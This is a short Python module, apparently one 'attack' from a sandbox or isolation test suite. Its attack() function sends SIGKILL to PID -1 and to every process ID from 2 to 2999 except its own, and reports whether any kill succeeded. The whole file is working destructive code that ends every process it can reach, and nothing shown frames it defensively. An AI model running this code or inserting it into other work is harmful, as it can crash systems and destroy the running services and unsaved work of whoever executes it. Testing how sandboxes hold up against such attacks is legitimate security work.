"""kill(-1), and every process number it can think of."""

import os
import signal


def attack():
    hit = False
    for victim in [-1, *range(2, 3000)]:
        if victim != os.getpid():
            try:
                os.kill(victim, signal.SIGKILL)
                hit = True
            except OSError:
                continue
    return hit
